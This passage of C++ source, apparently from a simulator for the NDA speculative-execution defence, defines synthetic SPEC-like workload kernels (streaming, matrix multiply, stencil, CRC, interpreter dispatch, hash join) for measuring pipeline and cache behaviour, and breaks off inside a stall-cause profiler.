} // namespace nda

#endif // NDASIM_WORKLOADS_WORKLOAD_HH
