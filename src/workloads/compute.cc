/**
 * @file
 * ALU-bound numeric kernel (namd/nab-like): integer force-field-style
 * arithmetic with four independent accumulation streams (high ILP),
 * an L1-resident coefficient table, and perfectly-predictable loops.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kCoeff = 0x25000000;
constexpr unsigned kCoeffWords = 512; // 4 KiB: L1-resident

class Compute : public Workload
{
  public:
    Compute() : Workload("compute", "644.nab") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> coeff(kCoeffWords);
        for (auto &w : coeff)
            w = rng.next() | 1;

        ProgramBuilder b("compute");
        b.segment(kCoeff, packWords(coeff));
        b.movi(1, kCoeff);
        for (RegId r = 2; r <= 5; ++r)
            b.movi(r, 0x1234 + r);        // four accumulators
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        b.movi(15, (kCoeffWords - 1) * 8);
        auto loop = b.label();
        b.andi(6, 18, (kCoeffWords - 1));
        b.shli(6, 6, 3);
        b.add(7, 1, 6);
        b.load(8, 7, 0, 8);               // coefficient (L1 hit)
        // Four independent medium-length chains.
        for (RegId r = 2; r <= 5; ++r) {
            b.mul(9, r, 8);
            b.shri(10, 9, 7);
            b.xor_(11, 10, r);
            b.add(r, 11, 8);
        }
        // Guard branch (overflow check) every 4th iteration: never
        // taken and perfectly predictable, but its source is the
        // iteration's result, so it resolves late — the pattern that
        // makes ops dispatched under it "unsafe" for NDA's
        // propagation policies.
        b.andi(13, 18, 3);
        b.movi(14, 0);
        auto no_guard = b.futureLabel();
        b.bne(13, 14, no_guard);
        b.movi(12, 0x7FFFFFFFFFFFLL);
        auto no_trap = b.futureLabel();
        b.bne(5, 12, no_trap);
        b.halt();                         // unreachable trap
        b.bind(no_trap);
        b.bind(no_guard);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeCompute()
{
    return std::make_unique<Compute>();
}

} // namespace nda
