/**
 * @file
 * Text-scanning kernel (perlbench-like): classify a stream of
 * text-distributed bytes with range-check branches (letter / digit /
 * separator). Branches are data-dependent but skewed like real text,
 * giving a moderate mispredict rate.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kText = 0x2C000000;
constexpr unsigned kBytes = 128 * 1024;

class StrProc : public Workload
{
  public:
    StrProc() : Workload("strproc", "600.perlbench") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        // Text-like byte distribution: ~70% letters, 10% digits,
        // 20% separators.
        std::vector<std::uint8_t> text(kBytes);
        for (auto &c : text) {
            const auto p = rng.below(100);
            if (p < 70)
                c = static_cast<std::uint8_t>('a' + rng.below(26));
            else if (p < 80)
                c = static_cast<std::uint8_t>('0' + rng.below(10));
            else
                c = ' ';
        }

        ProgramBuilder b("strproc");
        b.segment(kText, std::move(text));
        b.movi(1, kText);
        b.movi(2, 0);                     // letters
        b.movi(3, 0);                     // digits
        b.movi(4, 0);                     // tokens
        b.movi(15, kBytes - 1);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        b.and_(5, 18, 15);
        b.add(6, 1, 5);
        b.load(7, 6, 0, 1);               // byte (sequential)
        b.movi(8, 'a');
        b.movi(9, 'z' + 1);
        auto not_alpha = b.futureLabel();
        auto next = b.futureLabel();
        b.bltu(7, 8, not_alpha);          // ~70% fall through
        b.bgeu(7, 9, not_alpha);
        b.addi(2, 2, 1);
        b.jmp(next);
        b.bind(not_alpha);
        b.movi(8, '0');
        b.movi(9, '9' + 1);
        auto not_digit = b.futureLabel();
        b.bltu(7, 8, not_digit);
        b.bgeu(7, 9, not_digit);
        b.add(3, 3, 7);
        b.jmp(next);
        b.bind(not_digit);
        b.addi(4, 4, 1);                  // separator: token boundary
        b.bind(next);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeStrProc()
{
    return std::make_unique<StrProc>();
}

} // namespace nda
