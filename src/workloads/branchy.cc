/**
 * @file
 * Branch-heavy byte-classification kernel (xalancbmk-like): loads
 * pseudo-random bytes from a 256 KiB table and takes several
 * data-dependent branches with skewed probabilities (~10% overall
 * mispredict rate). Branches resolve only after an L1/L2 load,
 * exercising NDA's unsafe window.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kData = 0x23000000;
constexpr unsigned kBytes = 64 * 1024;

class Branchy : public Workload
{
  public:
    Branchy() : Workload("branchy", "623.xalancbmk") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);

        ProgramBuilder b("branchy");
        b.segment(kData, randomBytes(rng, kBytes));

        b.movi(1, kData);
        b.movi(2, 0);                     // counter A
        b.movi(3, 0);                     // counter B
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        b.movi(15, kBytes - 1);
        auto loop = b.label();
        // index = lcg(i) & mask  (address ready early: induction-based)
        b.muli(4, 18, 0x9E3779B1);
        b.and_(4, 4, 15);
        b.add(5, 1, 4);
        b.load(6, 5, 0, 1);               // random byte
        // branch 1: ~87.5% taken (byte < 224)
        b.movi(7, 224);
        auto skip1 = b.futureLabel();
        b.bltu(6, 7, skip1);
        b.addi(2, 2, 3);
        b.bind(skip1);
        // branch 2: ~75% taken (byte & 3 != 0 -> skip)
        b.andi(8, 6, 3);
        b.movi(9, 0);
        auto skip2 = b.futureLabel();
        b.bne(8, 9, skip2);
        b.addi(3, 3, 1);
        b.muli(3, 3, 3);
        b.bind(skip2);
        // branch 3: 50/50 on bit 4 of the loaded byte
        b.andi(10, 6, 16);
        auto skip3 = b.futureLabel();
        b.beq(10, 9, skip3);
        b.xor_(2, 2, 6);
        b.bind(skip3);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeBranchy()
{
    return std::make_unique<Branchy>();
}

} // namespace nda
