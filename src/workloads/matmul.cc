/**
 * @file
 * 64x64 integer matrix multiply (blas-like core of many SPECfp
 * codes): unrolled inner product with L1/L2-resident operands,
 * perfectly predictable branches, abundant ILP.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kMatA = 0x2D000000;
constexpr Addr kMatB = 0x2D100000;
constexpr Addr kMatC = 0x2D200000;
constexpr unsigned kN = 64;

class MatMul : public Workload
{
  public:
    MatMul() : Workload("matmul", "603.bwaves(core)") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> m(kN * kN);
        for (auto &w : m)
            w = rng.below(1 << 16);

        ProgramBuilder b("matmul");
        b.segment(kMatA, packWords(m));
        for (auto &w : m)
            w = rng.below(1 << 16);
        b.segment(kMatB, packWords(m));
        b.zeroSegment(kMatC, kN * kN * 8);

        constexpr std::int64_t kRow = kN * 8;
        b.movi(17, 0);                     // repetition counter
        auto outer = b.label();
        b.movi(18, 0);                     // i
        b.movi(19, kN);
        auto iloop = b.label();
        b.movi(14, 0);                     // j
        auto jloop = b.label();
        b.movi(2, 0);                      // acc
        b.movi(13, 0);                     // k
        auto kloop = b.label();
        // A[i][k..k+3] * B[k..k+3][j], unrolled 4x
        for (int u = 0; u < 4; ++u) {
            b.muli(3, 18, kRow);          // A row offset
            b.shli(4, 13, 3);
            b.add(3, 3, 4);
            b.movi(5, kMatA);
            b.add(5, 5, 3);
            b.load(6, 5, u * 8, 8);       // A[i][k+u]
            b.addi(7, 13, u);
            b.muli(7, 7, kRow);           // B row offset
            b.shli(8, 14, 3);
            b.add(7, 7, 8);
            b.movi(9, kMatB);
            b.add(9, 9, 7);
            b.load(10, 9, 0, 8);          // B[k+u][j]
            b.mul(11, 6, 10);
            b.add(2, 2, 11);
        }
        b.addi(13, 13, 4);
        b.bltu(13, 19, kloop);
        // Guard (overflow check) on the finished inner product:
        // predictable but late-resolving, once per j iteration.
        b.movi(12, 0x7FFFFFFFFFFFLL);
        auto no_trap = b.futureLabel();
        b.bne(2, 12, no_trap);
        b.halt();                          // unreachable trap
        b.bind(no_trap);
        // C[i][j] = acc
        b.muli(3, 18, kRow);
        b.shli(4, 14, 3);
        b.add(3, 3, 4);
        b.movi(5, kMatC);
        b.add(5, 5, 3);
        b.store(5, 0, 2, 8);
        b.addi(14, 14, 1);
        b.bltu(14, 19, jloop);
        b.addi(18, 18, 1);
        b.bltu(18, 19, iloop);
        b.addi(17, 17, 1);
        b.movi(16, 1'000'000);
        b.bltu(17, 16, outer);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeMatMul()
{
    return std::make_unique<MatMul>();
}

} // namespace nda
