/**
 * @file
 * Game-tree-search kernel (deepsjeng/leela-like): hash computation,
 * transposition-table lookups (L2-resident), moderately-predictable
 * cutoff branches, and a short data-dependent refinement loop.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kTable = 0x24000000;
constexpr unsigned kWords = 128 * 1024; // 1 MiB

class GameTree : public Workload
{
  public:
    GameTree() : Workload("gametree", "631.deepsjeng") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> entries(kWords);
        for (auto &w : entries)
            w = rng.next() % 64; // small scores; ~1/64 zero

        ProgramBuilder b("gametree");
        b.segment(kTable, packWords(entries));
        b.movi(1, kTable);
        b.movi(2, 0x12345);               // position hash
        b.movi(3, 0);                     // best score
        b.movi(15, (kWords - 1) * 8);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        // hash update (mul chain, some ILP)
        b.muli(2, 2, 6364136223846793005LL);
        b.addi(2, 2, 1442695040888963407LL);
        b.shri(4, 2, 17);
        b.xor_(4, 4, 2);
        b.andi(5, 4, 0xFFFF8);           // aligned table offset
        b.and_(5, 5, 15);
        b.add(6, 1, 5);
        b.load(7, 6, 0, 8);              // tt entry (L2-resident)
        // score refinement: arithmetic only on the slow load (real
        // evaluators blend scores branchlessly)
        b.shri(8, 7, 3);
        b.add(3, 3, 8);
        b.cmpltu(9, 3, 7);
        b.mul(10, 9, 8);
        b.add(3, 3, 10);
        // cutoff branch driven by a small L1-resident history table
        // (fast to resolve, ~80% predictable)
        b.andi(11, 2, 511 * 8);
        b.andi(11, 11, ~7LL);
        b.add(12, 1, 11);                // low table region stays hot
        b.load(13, 12, 0, 8);
        b.andi(13, 13, 7);
        b.movi(14, 6);
        auto no_cutoff = b.futureLabel();
        b.bltu(13, 14, no_cutoff);       // ~75% taken
        b.xor_(3, 3, 13);
        b.bind(no_cutoff);
        // periodic reset every 64 iterations (predictable)
        b.andi(9, 18, 63);
        b.movi(10, 0);
        auto no_reset = b.futureLabel();
        b.bne(9, 10, no_reset);
        b.movi(3, 0);
        b.bind(no_reset);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeGameTree()
{
    return std::make_unique<GameTree>();
}

} // namespace nda
