/**
 * @file
 * Bytecode-interpreter kernel (perlbench/python-like dispatch loops):
 * fetch a bytecode byte, dispatch through a jump table with an
 * register-indirect jump, execute a tiny handler, repeat. The
 * dispatch target depends on a load, so the indirect branch resolves
 * late and every handler runs under it — the densest unsafe-window
 * pattern real interpreters create for NDA's propagation policies.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kBytecode = 0x2F000000;
constexpr unsigned kProgBytes = 16 * 1024; // L1/L2-resident program
constexpr Addr kJumpTable = 0x2F100000;
constexpr unsigned kNumOps = 8;

class Interp : public Workload
{
  public:
    Interp() : Workload("interp", "600.perlbench(dispatch)") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint8_t> bytecode(kProgBytes);
        for (auto &op : bytecode)
            op = static_cast<std::uint8_t>(rng.below(kNumOps));

        ProgramBuilder b("interp");
        b.segment(kBytecode, std::move(bytecode));

        // regs: r1 = vm accumulator, r2 = vm operand, r3 = vm pc,
        //        r4 = bytecode base, r5 = jump-table base
        auto main_l = b.futureLabel();
        b.jmp(main_l);

        // --- handlers: each ends by jumping back to the dispatcher.
        auto dispatch = b.futureLabel();
        std::vector<Addr> handler_pcs;
        // op 0: acc += operand
        handler_pcs.push_back(b.here());
        b.add(1, 1, 2);
        b.jmp(dispatch);
        // op 1: acc -= operand
        handler_pcs.push_back(b.here());
        b.sub(1, 1, 2);
        b.jmp(dispatch);
        // op 2: acc ^= operand << 3
        handler_pcs.push_back(b.here());
        b.shli(6, 2, 3);
        b.xor_(1, 1, 6);
        b.jmp(dispatch);
        // op 3: acc = acc * 33 + operand
        handler_pcs.push_back(b.here());
        b.muli(1, 1, 33);
        b.add(1, 1, 2);
        b.jmp(dispatch);
        // op 4: operand = acc >> 7
        handler_pcs.push_back(b.here());
        b.shri(2, 1, 7);
        b.jmp(dispatch);
        // op 5: conditional: skip next vm-op if acc odd
        handler_pcs.push_back(b.here());
        {
            b.andi(6, 1, 1);
            b.movi(7, 0);
            auto no_skip = b.futureLabel();
            b.beq(6, 7, no_skip);
            b.addi(3, 3, 1);             // vm-level skip
            b.bind(no_skip);
            b.jmp(dispatch);
        }
        // op 6: reload operand from the bytecode stream (data load)
        handler_pcs.push_back(b.here());
        b.andi(6, 1, kProgBytes - 1);
        b.add(7, 4, 6);
        b.load(2, 7, 0, 1);
        b.jmp(dispatch);
        // op 7: mix
        handler_pcs.push_back(b.here());
        b.xor_(1, 1, 2);
        b.addi(2, 2, 13);
        b.jmp(dispatch);

        std::vector<std::uint64_t> table;
        for (Addr pc : handler_pcs)
            table.push_back(pc);
        b.segment(kJumpTable, packWords(table));

        // --- main / dispatcher ------------------------------------------
        b.bind(main_l);
        b.movi(1, 0x1234);
        b.movi(2, 7);
        b.movi(3, 0);
        b.movi(4, kBytecode);
        b.movi(5, kJumpTable);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        b.bind(dispatch);
        // vm pc wraps around the bytecode program
        b.andi(6, 3, kProgBytes - 1);
        b.add(7, 4, 6);
        b.load(8, 7, 0, 1);              // opcode byte
        b.shli(8, 8, 3);
        b.add(9, 5, 8);
        b.load(10, 9, 0, 8);             // handler address
        b.addi(3, 3, 1);
        b.addi(18, 18, 1);
        auto done = b.futureLabel();
        b.bgeu(18, 19, done);
        b.jmpr(10);                      // indirect dispatch
        b.bind(done);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeInterp()
{
    return std::make_unique<Interp>();
}

} // namespace nda
