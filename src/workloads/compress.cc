/**
 * @file
 * Match-finding kernel (xz/zstd-like): compare byte pairs at a
 * sliding offset and extend matches in a short data-dependent inner
 * loop. Mispredicts cluster at match boundaries.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kData = 0x28000000;
constexpr unsigned kBytes = 32 * 1024;

class Compress : public Workload
{
  public:
    Compress() : Workload("compress", "557.xz") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        // Compressible-ish data: long runs of a few symbols.
        std::vector<std::uint8_t> data(kBytes);
        std::uint8_t sym = 0;
        for (auto &d : data) {
            if (rng.chance(1, 6))
                sym = static_cast<std::uint8_t>(rng.below(8));
            d = sym;
        }

        ProgramBuilder b("compress");
        b.segment(kData, std::move(data));
        b.movi(1, kData);
        b.movi(2, 0);                     // match length accumulator
        b.movi(15, kBytes / 2 - 64);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto outer = b.label();
        // pos = lcg(i) % (kBytes/2): candidate match position
        b.muli(3, 18, 0x9E3779B1);
        b.andi(3, 3, kBytes / 2 - 1);
        b.add(4, 1, 3);                   // p
        b.addi(5, 4, 4096);               // q = p + offset
        // extend while bytes match, up to 8 (data-dependent trip count)
        b.movi(6, 0);                     // len
        auto extend = b.label();
        auto done = b.futureLabel();
        b.add(7, 4, 6);
        b.load(8, 7, 0, 1);
        b.add(9, 5, 6);
        b.load(10, 9, 0, 1);
        b.bne(8, 10, done);               // mismatch -> stop
        b.addi(6, 6, 1);
        b.movi(11, 8);
        b.bltu(6, 11, extend);
        b.bind(done);
        b.add(2, 2, 6);
        b.addi(18, 18, 1);
        b.bltu(18, 19, outer);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeCompress()
{
    return std::make_unique<Compress>();
}

} // namespace nda
