/**
 * @file
 * 5-point stencil over a 256x256 grid (fotonik/cactu-like): four
 * neighbour loads + one store per point, L2-resident, perfectly
 * predictable control flow, high ILP and MLP.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kSrc = 0x29000000;
constexpr Addr kDst = 0x29800000;
constexpr unsigned kDim = 128; // 128 KiB grid: L2-resident, hot rows in L1

class Stencil : public Workload
{
  public:
    Stencil() : Workload("stencil", "649.fotonik3d") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> grid(kDim * kDim);
        for (auto &w : grid)
            w = rng.below(1 << 20);

        ProgramBuilder b("stencil");
        b.segment(kSrc, packWords(grid));
        b.zeroSegment(kDst, kDim * kDim * 8);

        constexpr std::int64_t kRow = kDim * 8;
        b.movi(1, kSrc);
        b.movi(2, kDst);
        b.movi(17, 0);                     // sweep counter
        auto sweep = b.label();
        b.movi(18, 1);                     // row i
        b.movi(19, kDim - 1);
        auto row = b.label();
        b.movi(14, 1);                     // col j
        auto col = b.label();
        // off = (i*kDim + j) * 8
        b.muli(3, 18, kRow);
        b.shli(4, 14, 3);
        b.add(3, 3, 4);
        b.add(5, 1, 3);
        b.load(6, 5, -8, 8);               // west
        b.load(7, 5, 8, 8);                // east
        b.load(8, 5, -kRow, 8);            // north
        b.load(9, 5, kRow, 8);             // south
        b.add(10, 6, 7);
        b.add(11, 8, 9);
        b.add(10, 10, 11);
        b.shri(10, 10, 2);
        b.add(12, 2, 3);
        b.store(12, 0, 10, 8);
        // Late-resolving, never-taken range check on the result.
        b.movi(13, 0x7FFFFFFFFFFFLL);
        auto no_trap = b.futureLabel();
        b.bne(10, 13, no_trap);
        b.halt();                          // unreachable trap
        b.bind(no_trap);
        b.addi(14, 14, 1);
        b.bltu(14, 19, col);
        b.addi(18, 18, 1);
        b.bltu(18, 19, row);
        b.addi(17, 17, 1);
        b.movi(16, 1'000'000);
        b.bltu(17, 16, sweep);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeStencil()
{
    return std::make_unique<Stencil>();
}

} // namespace nda
