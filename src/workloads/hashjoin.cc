/**
 * @file
 * Hash-join probe kernel (database-style, omnetpp-like memory
 * behaviour): hash a streaming key, probe a 2 MiB bucket table
 * (random access, L2/DRAM boundary), and branch on match (~12% hit).
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kTable = 0x26000000;
constexpr unsigned kBuckets = 64 * 1024; // 512 KiB of 8-byte buckets

class HashJoin : public Workload
{
  public:
    HashJoin() : Workload("hashjoin", "620.omnetpp") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> buckets(kBuckets);
        for (auto &w : buckets)
            w = rng.chance(1, 8) ? 1 : 0; // ~12% occupied

        ProgramBuilder b("hashjoin");
        b.segment(kTable, packWords(buckets));
        b.movi(1, kTable);
        b.movi(2, 0);                     // match count
        b.movi(3, 0);                     // payload sum
        b.movi(15, (kBuckets - 1));
        b.movi(14, 1);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        // Three independent branchless probes per iteration (batch
        // probing, database style): cmpeq-accumulate each match.
        b.movi(12, 0);                    // matches this iteration
        for (int u = 0; u < 3; ++u) {
            b.addi(4, 18, u * 12345);
            b.muli(4, 4, 0x2545F4914F6CDD1DLL);
            b.shri(5, 4, 29);
            b.xor_(5, 5, 4);
            b.and_(5, 5, 15);
            b.shli(5, 5, 3);
            b.add(6, 1, 5);
            b.load(7, 6, 0, 8);           // bucket (random access)
            b.cmpeq(8, 7, 14);
            b.add(12, 12, 8);
            b.add(3, 3, 7);               // payload accumulation
        }
        // Insert: mark the last bucket visited — a store whose
        // address came from computation (store-bypass pressure).
        b.store(6, 0, 12, 8);
        // One emit branch per batch (~30 insts), dependent on the
        // probed data, so it resolves at L2/DRAM latency.
        b.movi(13, 0);
        auto no_emit = b.futureLabel();
        b.beq(12, 13, no_emit);           // ~70% taken (no match)
        b.addi(2, 2, 1);
        b.bind(no_emit);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeHashJoin()
{
    return std::make_unique<HashJoin>();
}

} // namespace nda
