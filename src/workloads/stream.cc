/**
 * @file
 * Streaming kernel (lbm-like): a[i] = b[i] + 3*c[i] over 2 MiB
 * arrays, unrolled 4x. Sequential DRAM traffic with high MLP,
 * perfectly predictable branches.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kA = 0x20000000;
constexpr Addr kB = 0x21000000;
constexpr Addr kC = 0x22000000;
constexpr unsigned kWords = 256 * 1024; // 2 MiB each

class Stream : public Workload
{
  public:
    Stream() : Workload("stream", "619.lbm") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> init(kWords);
        for (auto &w : init)
            w = rng.next();

        ProgramBuilder b("stream");
        b.zeroSegment(kA, kWords * 8);
        b.segment(kB, packWords(init));
        for (auto &w : init)
            w = rng.next();
        b.segment(kC, packWords(init));

        b.movi(18, 0);                    // byte offset
        b.movi(19, kWords * 8);
        b.movi(1, kA);
        b.movi(2, kB);
        b.movi(3, kC);
        b.movi(17, 0);                    // pass counter
        auto outer = b.label();
        auto loop = b.label();
        for (int u = 0; u < 4; ++u) {
            const std::int64_t d = u * 8;
            b.add(4, 2, 18);
            b.load(5, 4, d, 8);           // b[i+u]
            b.add(6, 3, 18);
            b.load(7, 6, d, 8);           // c[i+u]
            b.muli(8, 7, 3);
            b.add(9, 5, 8);
            b.add(10, 1, 18);
            b.store(10, d, 9, 8);         // a[i+u]
        }
        // NaN/overflow-style guard on the last computed element:
        // predictable, but resolves only when the loads return.
        b.movi(13, 0x7FFFFFFFFFFFLL);
        auto no_trap = b.futureLabel();
        b.bne(9, 13, no_trap);
        b.halt();                          // unreachable trap
        b.bind(no_trap);
        b.addi(18, 18, 32);
        b.bltu(18, 19, loop);
        b.movi(18, 0);
        b.addi(17, 17, 1);
        b.movi(16, 1'000'000);
        b.bltu(17, 16, outer);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeStream()
{
    return std::make_unique<Stream>();
}

} // namespace nda
