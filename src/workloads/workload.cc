#include "workloads/workload.hh"

#include "common/xrandom.hh"

namespace nda {

std::vector<std::uint8_t>
randomBytes(XRandom &rng, std::size_t len)
{
    std::vector<std::uint8_t> bytes(len);
    for (auto &b : bytes)
        b = static_cast<std::uint8_t>(rng.next());
    return bytes;
}

std::vector<std::uint8_t>
packWords(const std::vector<std::uint64_t> &ws)
{
    std::vector<std::uint8_t> bytes(ws.size() * 8);
    for (std::size_t i = 0; i < ws.size(); ++i) {
        for (int j = 0; j < 8; ++j) {
            bytes[i * 8 + static_cast<std::size_t>(j)] =
                static_cast<std::uint8_t>(ws[i] >> (8 * j));
        }
    }
    return bytes;
}

std::vector<std::unique_ptr<Workload>>
makeAllWorkloads()
{
    std::vector<std::unique_ptr<Workload>> w;
    w.push_back(makePointerChase());
    w.push_back(makeStream());
    w.push_back(makeBranchy());
    w.push_back(makeGameTree());
    w.push_back(makeCompute());
    w.push_back(makeHashJoin());
    w.push_back(makeRadixSort());
    w.push_back(makeCompress());
    w.push_back(makeStencil());
    w.push_back(makeTreeWalk());
    w.push_back(makeCrc());
    w.push_back(makeStrProc());
    w.push_back(makeMatMul());
    w.push_back(makeMixed());
    w.push_back(makeInterp());
    w.push_back(makeFilter());
    return w;
}

std::unique_ptr<Workload>
makeWorkload(const std::string &name)
{
    for (auto &w : makeAllWorkloads()) {
        if (w->name() == name)
            return std::move(w);
    }
    return nullptr;
}

} // namespace nda
