/**
 * @file
 * Table-driven CRC (checksum-style serial kernel): every step is
 * load -> xor -> mask -> dependent table load -> xor -> shift. A
 * fully serial dependent-load chain with no branches to mispredict —
 * the adversarial case for load restriction (every load's consumer
 * waits for retirement).
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kTable = 0x2B000000; // 256 x 8 bytes, L1-resident
constexpr Addr kInput = 0x2B100000;
constexpr unsigned kBytes = 64 * 1024;

class Crc : public Workload
{
  public:
    Crc() : Workload("crc", "625.x264(chain)") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> table(256);
        for (auto &w : table)
            w = rng.next();

        ProgramBuilder b("crc");
        b.segment(kTable, packWords(table));
        b.segment(kInput, randomBytes(rng, kBytes));
        b.movi(1, kTable);
        b.movi(2, kInput);
        b.movi(3, 0xFFFFFFFFFFFFFFFLL);   // crc
        b.movi(15, kBytes - 1);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        b.and_(4, 18, 15);
        b.add(5, 2, 4);
        b.load(6, 5, 0, 1);               // input byte (sequential)
        b.xor_(7, 3, 6);
        b.andi(7, 7, 0xFF);
        b.shli(7, 7, 3);
        b.add(8, 1, 7);
        b.load(9, 8, 0, 8);               // table[(crc^b)&255] (serial!)
        b.shri(10, 3, 8);
        b.xor_(3, 9, 10);                 // crc = t ^ (crc >> 8)
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeCrc()
{
    return std::make_unique<Crc>();
}

} // namespace nda
