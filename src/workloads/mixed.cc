/**
 * @file
 * Phase-mixed kernel (gcc/x264-like whole-program behaviour):
 * interleaves a pointer-chase burst, a streaming burst, and an ALU
 * burst per outer iteration, so all pipeline resources see pressure.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kChain = 0x2E000000;
constexpr Addr kArray = 0x2E800000;
constexpr unsigned kChainNodes = 32 * 1024; // 2 MiB at 64B/node
constexpr unsigned kArrayWords = 64 * 1024; // 512 KiB

class Mixed : public Workload
{
  public:
    Mixed() : Workload("mixed", "625.x264") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);

        std::vector<std::uint32_t> next(kChainNodes);
        for (std::uint32_t i = 0; i < kChainNodes; ++i)
            next[i] = i;
        for (std::uint32_t i = kChainNodes - 1; i > 0; --i)
            std::swap(next[i],
                      next[static_cast<std::uint32_t>(rng.below(i))]);
        std::vector<std::uint64_t> nodes(kChainNodes * 8);
        for (std::uint32_t i = 0; i < kChainNodes; ++i)
            nodes[i * 8] = kChain + static_cast<Addr>(next[i]) * 64;

        std::vector<std::uint64_t> arr(kArrayWords);
        for (auto &w : arr)
            w = rng.next();

        ProgramBuilder b("mixed");
        b.segment(kChain, packWords(nodes));
        b.segment(kArray, packWords(arr));

        b.movi(1, kChain);                 // chase pointer
        b.movi(2, 0);                      // accumulator
        b.movi(12, 0);                     // stream offset
        b.movi(15, (kArrayWords - 4) * 8);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        // Phase 1: two chase steps (serial loads).
        b.load(1, 1, 0, 8);
        b.load(1, 1, 0, 8);
        // Phase 2: streaming reads (independent loads).
        b.movi(3, kArray);
        b.add(3, 3, 12);
        b.load(4, 3, 0, 8);
        b.load(5, 3, 8, 8);
        b.load(6, 3, 16, 8);
        b.add(2, 2, 4);
        b.add(7, 5, 6);
        b.add(2, 2, 7);
        b.addi(12, 12, 24);
        b.and_(12, 12, 15);
        // Phase 3: ALU burst with a skewed branch.
        b.muli(8, 2, 0x9E3779B1);
        b.shri(9, 8, 13);
        b.xor_(2, 2, 9);
        b.andi(10, 8, 7);
        b.movi(11, 7);
        auto skip = b.futureLabel();
        b.bne(10, 11, skip);               // ~87% taken
        b.addi(2, 2, 13);
        b.bind(skip);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeMixed()
{
    return std::make_unique<Mixed>();
}

} // namespace nda
