#include "obs/hotspot_profiler.hh"

#include <algorithm>
#include <cstdio>

#include "obs/json_writer.hh"

namespace nda {

const char *
stallCauseName(StallCause c)
{
    switch (c) {
      case StallCause::kCommit: return "commit";
      case StallCause::kFrontend: return "frontend";
      case StallCause::kSquashBranch: return "squash-branch";
      case StallCause::kSquashMemOrder: return "squash-mem-order";
      case StallCause::kSquashFault: return "squash-fault";
      case StallCause::kSquashSerialize: return "squash-serialize";
      case StallCause::kNdaDeferLoad: return "nda-defer-load";
      case StallCause::kNdaDeferAlu: return "nda-defer-alu";
      case StallCause::kNdaDeferControl: return "nda-defer-control";
      case StallCause::kMemLatency: return "mem-latency";
      case StallCause::kMshrFull: return "mshr-full";
      case StallCause::kExecLatency: return "exec-latency";
      case StallCause::kIssueWait: return "issue-wait";
      case StallCause::kIqFull: return "iq-full";
